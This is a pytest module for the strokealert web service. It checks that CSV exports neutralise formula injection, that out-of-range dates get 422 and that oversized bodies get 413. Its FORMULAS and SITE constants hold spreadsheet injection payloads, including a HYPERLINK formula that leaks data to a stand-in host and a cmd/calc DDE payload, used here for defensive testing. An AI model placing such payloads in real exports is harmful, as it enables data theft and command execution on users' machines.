"""Issue 14, web rows, against a real ``strokealert serve`` on PostgreSQL: a formula typed as a
username is text in the audit-log CSV (and any formula-looking cell in the report CSV), dates
out of range get 422 with a reason (never 500), and request bodies over the cap get 413,
declared or chunked."""

from __future__ import annotations

import csv
import io
import subprocess
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest

from strokealert import db
from strokealert.csvexport import FORMULA_STARTS, PLAIN_NUMBER
from strokealert.demo import CLI
from tests.api.helpers import new_case
from tests.chaos.web_service import Served, login, web_service
from tests.conftest import _PG, _postgres_database

pytestmark = pytest.mark.skipif(not _PG, reason="PostgreSQL not reachable")

FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd", "-2+3")
SITE = '=HYPERLINK("http://evil.example","CT")'


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    root = tmp_path_factory.mktemp("web-requests")
    for url in _postgres_database():
        with web_service(root, url, {"admin": "admin", "coord": "coordinator"}) as service:
            yield service


@pytest.fixture(scope="module")
def case_id(served: Served) -> str:
    """A case as the pipeline writes it, on a site whose name looks like a formula."""
    engine = db.make_engine(served.env["STROKEALERT_DATABASE_URL"])
    try:
        return new_case(db.make_session_factory(engine), "2.25.140001", site=SITE,
                        arrival_at=datetime(2026, 3, 14, 7, 0, tzinfo=UTC))
    finally:
        engine.dispose()


def assert_no_formula(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(cell), cell
    return rows


def test_formula_typed_as_username_is_text_in_the_audit_csv(served: Served) -> None:
    with served.client() as anyone:
        for name in FORMULAS:
            assert login(anyone, name, "guess").status_code in (401, 429)
    with served.client("admin") as admin:
        export = admin.get("/admin/audit", params={"format": "csv", "action": "login_failed"})
    assert export.status_code == 200
    rows = assert_no_formula(export.text)
    usernames = {row[2] for row in rows[1:]}
    assert {"'" + name for name in FORMULAS} <= usernames


def test_formula_looking_cells_are_text_in_the_report_csv(served: Served, case_id: str) -> None:
    with served.client("coord") as coord:
        web = coord.get("/report", params={"start": "2026-03-01", "end": "2026-03-31",
                                           "format": "csv"})
    assert web.status_code == 200
    done = subprocess.run([*CLI, "report", "--from", "2026-03-01", "--to", "2026-03-31",
                           "--format", "csv"], env=served.env, capture_output=True, text=True,
                          timeout=120)
    assert done.returncode == 0, done.stderr
    for text in (web.text, done.stdout):
        rows = assert_no_formula(text)
        row = next(r for r in rows if r[0] == case_id)
        assert row[1] == "'" + SITE


@pytest.mark.parametrize("path", ["/report", "/dashboard", "/dashboard/measures/dtn",
                                  "/api/measures"])
@pytest.mark.parametrize("query,reason", [
    ({"end": "9999-12-31"}, "outside"), ({"start": "0001-01-01"}, "outside"),
    ({"start": "2026-01-01", "end": "99999-01-01"}, "YYYY-MM-DD"),
    ({"start": "2026-02-30"}, "YYYY-MM-DD"), ({"start": "2026-03-02", "end": "2026-03-01"},
                                              "before")])
def test_dates_out_of_range_get_422(served: Served, path: str, query: dict[str, str],
                                    reason: str) -> None:
    with served.client("coord") as coord:
        response = coord.get(path, params=query, headers={"Accept": "application/json"})
    assert response.status_code == 422, response.text[:300]
    assert reason in response.json()["detail"]


def test_timeline_and_report_command_refuse_far_dates(served: Served, case_id: str) -> None:
    with served.client("coord", csrf=True) as coord:
        for value in ("9999-12-31T23:59:59-05:00", "0001-01-01T00:00:00+05:00",
                      "10000-01-01T00:00"):
            response = coord.patch(f"/api/cases/{case_id}/timeline", json={"needle_at": value})
            assert response.status_code == 422, (value, response.text[:300])
            assert "needle_at" in response.json()["detail"]
        assert coord.get(f"/api/cases/{case_id}").status_code == 200
    done = subprocess.run([*CLI, "report", "--from", "2026-01-01", "--to", "9999-12-31"],
                          env=served.env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 2 and "outside" in done.stderr and "Traceback" not in done.stderr


def test_request_bodies_over_the_cap_get_413(served: Served, case_id: str) -> None:
    cap = 1 << 20
    with served.client("coord", csrf=True) as coord:
        declared = coord.post("/login", content=b"u" * (2 * cap),
                              headers={"Content-Type": "application/x-www-form-urlencoded"})
        assert declared.status_code == 413

        def chunks() -> Iterator[bytes]:
            yield b'{"tici": "'
            for _ in range(40):
                yield b"x" * 65536
            yield b'"}'

        chunked = coord.patch(f"/api/cases/{case_id}/timeline", content=chunks(),
                              headers={"Content-Type": "application/json"})
        assert chunked.status_code == 413
        under = coord.patch(f"/api/cases/{case_id}/timeline",
                            content=b'{"tici": "' + b"x" * (cap // 2) + b'"}',
                            headers={"Content-Type": "application/json"})
        assert under.status_code == 422  # read whole, refused for its content
        assert coord.get("/api/cases").status_code == 200
